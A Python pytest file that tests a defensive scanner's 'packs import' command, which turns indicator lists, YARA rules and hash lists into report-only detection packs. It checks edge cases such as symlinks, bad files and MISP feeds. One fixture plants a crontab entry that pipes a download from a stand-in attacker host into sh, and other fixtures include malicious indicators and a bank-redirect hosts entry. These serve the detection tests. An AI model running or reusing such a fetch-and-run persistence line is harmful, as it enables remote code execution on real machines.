"""``quetsach packs import``: a pack that passes the check, reports and never acts, and what was left out."""

import hashlib
import json
import sys
from pathlib import Path
from typing import Any

import pytest

from quetsach.cli.main import main
from quetsach.core.pack import Action
from quetsach.packs.load import load_pack

SAMPLE = b"a harmless sample " * 10
RULE = """rule sure_mark {
  meta: author = "Some One" license = "DRL 1.1" reference = "https://example.org/rules"
  strings: $a = "QUETSACH-IMPORT-MARK"
  condition: $a
}
"""
LIST = """
192.52.193.7 panel
evil[.]example[.]test
hxxp://evil.example.test/a.sh
dropper-one.exe
svchost.exe
8.8.8.8
"""


@pytest.fixture
def given(tmp_path: Path) -> Path:
    folder = tmp_path / "given"
    folder.mkdir()
    (folder / "rules.yar").write_text(RULE)
    (folder / "known.hsb").write_text(f"{hashlib.sha256(SAMPLE).hexdigest()}:{len(SAMPLE)}:Test.Sample-1\n")
    (folder / "list.txt").write_text(LIST)
    return folder


def _import(*arguments: object) -> int:
    return main(["packs", "import", *map(str, arguments), "--as", "others", "--no-goodware"])


def _json(capsys: pytest.CaptureFixture[str]) -> Any:
    return json.loads(capsys.readouterr().out)


def test_an_import_makes_a_pack_that_passes_the_check(
    given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _import(given, "--out", tmp_path, "--author", "A team", "--licence", "CC0-1.0", "--json") == 0
    result = _json(capsys)
    assert result["taken"] == {"hashes": 1, "names": 1, "addresses": 1, "domains": 1, "urls": 1, "rules": 1}
    assert result["left_out"] == {"common-name": 1, "common-address": 1}
    assert result["named"] == [
        {"reason": "common-name", "where": "list.txt: line 6", "what": "svchost.exe"},
        {"reason": "common-address", "where": "list.txt: line 7", "what": "8.8.8.8"},
    ]
    assert main(["packs", "check", "--no-goodware", result["path"]]) == 0
    pack = load_pack(Path(result["path"]))
    assert (pack.author, pack.licence) == ("A team", "CC0-1.0")
    assert {trait.action for trait in pack.traits} == {Action.REPORT}
    assert "known.hsb" in (tmp_path / "others" / "sources.md").read_text()
    assert str(tmp_path) not in (tmp_path / "others" / "sources.md").read_text()


def test_what_was_taken_over_is_found_and_nothing_is_done_about_it(
    given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/crontab").write_text("@reboot root curl http://evil.example.test/a.sh | sh\n")
    (root / "etc/hosts").write_text("0.0.0.0 evil.example.test\n192.52.193.7 bank.example.test\n")
    (root / "sample").write_bytes(SAMPLE)
    (root / "marked").write_bytes(b"QUETSACH-IMPORT-MARK")
    (root / "dropper-one.exe").write_bytes(b"anything")
    assert _import(given, "--out", tmp_path) == 0
    capsys.readouterr()
    pack = str(tmp_path / "others")
    state = ["--state", str(tmp_path / "state")]
    main(["scan", "--root", str(root), "--full", "--pack", pack, "--json", *state])
    found = {(f["trait"], f["evidence"]) for f in _json(capsys)["findings"]}
    assert found == {
        ("file-hashes", f"sha256 {hashlib.sha256(SAMPLE).hexdigest()} (Test.Sample-1)"),
        ("file-rule", "sure_mark (Some One; DRL 1.1, https://example.org/rules)"),
        ("file-names", "name: dropper-one.exe"),
        ("cron-entry-domains", "command: evil.example.test"),
        ("setting-line-addresses", "line: 192.52.193.7 (panel)"),
    }
    before = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
    assert main(["clean", "--root", str(root), "--full", "--pack", pack, "--yes", *state]) == 10
    assert {path: path.read_bytes() for path in root.rglob("*") if path.is_file()} == before


def test_names_alone_make_no_pack(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "names.txt").write_text("dropper-one.exe\n")
    assert _import(tmp_path / "names.txt", "--out", tmp_path / "out") == 3
    out = capsys.readouterr().out
    assert "name-alone" in out
    assert "No pack was made" in out
    assert not (tmp_path / "out").exists()


def test_a_folder_that_is_there_is_not_written_into(
    given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _import(given, "--out", tmp_path) == 0
    before = (tmp_path / "others/pack.toml").read_bytes()
    assert _import(given, "--out", tmp_path, "--author", "Another") == 3
    assert "the folder is there already" in capsys.readouterr().err
    assert (tmp_path / "others/pack.toml").read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["given", "others"]


def test_the_same_files_make_the_same_pack(given: Path, tmp_path: Path) -> None:
    assert _import(given, "--out", tmp_path / "a") == 0
    assert _import(given, "--out", tmp_path / "b") == 0
    assert load_pack(tmp_path / "a/others").digest == load_pack(tmp_path / "b/others").digest


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("daily.cvd", b"ClamAV-VDB:1", "sigtool --unpack"),
        ("renamed.txt", b"ClamAV-VDB:1", "sigtool --unpack"),
        ("program.txt", b"MZ\0\0", "this is no text"),
        ("broken.json", b"{", "not valid JSON"),
    ],
)
def test_a_file_that_cannot_be_read_is_an_error_that_says_what_to_do(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, content: bytes, message: str
) -> None:
    (tmp_path / name).write_bytes(content)
    assert _import(tmp_path / name, "--out", tmp_path / "out") == 3
    error = capsys.readouterr().err
    assert name in error
    assert message in error


def test_json_of_another_form_is_named_and_makes_no_pack(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "other.json").write_bytes(b"{}")
    assert _import(tmp_path / "other.json", "--out", tmp_path / "out") == 3
    assert "other.json  JSON that is neither a STIX bundle nor events of MISP" in capsys.readouterr().out


def test_a_feed_of_misp_is_taken_as_it_lies_in_its_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    feed = tmp_path / "feed"
    feed.mkdir()
    attribute = {"type": "domain", "value": "evil.example.test", "to_ids": True, "uuid": "u"}
    (feed / "5c8a.json").write_text(json.dumps({"Event": {"info": "Case", "Attribute": [attribute]}}))
    (feed / "manifest.json").write_text(json.dumps({"5c8a": {"info": "Case", "timestamp": "1"}}))
    assert _import(feed, "--out", tmp_path, "--json") == 0
    named = _json(capsys)["named"]
    assert [(one["reason"], one["where"]) for one in named] == [("other-file", "manifest.json")]


def test_a_name_that_is_none_is_refused(given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["packs", "import", str(given), "--as", "../x", "--out", str(tmp_path), "--no-goodware"]) == 3
    assert "is no name" in capsys.readouterr().err
    assert not (tmp_path.parent / "x").exists()


def test_other_signatures_of_clamav_are_named(given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.ldb").write_text("Win.A;Engine:51-255;0;41\n")
    assert _import(given, tmp_path / "a.ldb", "--out", tmp_path, "--json") == 0
    assert {"reason": "other-file", "where": "a.ldb", "what": "signatures of the form .ldb"} in _json(capsys)["named"]


def test_a_link_that_leads_out_of_a_given_folder_is_not_followed(
    given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "private.txt").write_text("evil.example.test\n")
    (given / "more.txt").symlink_to(tmp_path / "private.txt")
    assert _import(given, "--out", tmp_path / "out") == 3
    assert "a link leads out of the folder" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_a_link_within_a_given_folder_is_read(given: Path, tmp_path: Path) -> None:
    (given / "again.txt").symlink_to(given / "list.txt")
    assert _import(given, "--out", tmp_path / "out") == 0


def test_a_full_pack_and_a_single_engine_are_said(
    given: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (given / "more.yar").write_text(RULE.replace("sure_mark", "more_mark").replace("IMPORT", "SECOND-IMPORT"))
    monkeypatch.setattr("quetsach.packs.importer.vetting._RULES_LIMIT_BYTES", len(RULE) + 20)
    monkeypatch.setitem(sys.modules, "yara_x", None)
    assert _import(given, "--out", tmp_path) == 0
    out = capsys.readouterr().out
    assert "The pack is full: 1 rules did not fit and are NOT looked for." in out
    assert "the extra yara-x is not installed" in out
    sources = (tmp_path / "others" / "sources.md").read_text()
    assert "Rules compiled by: boreal" in sources
    assert "No second engine was asked" in sources
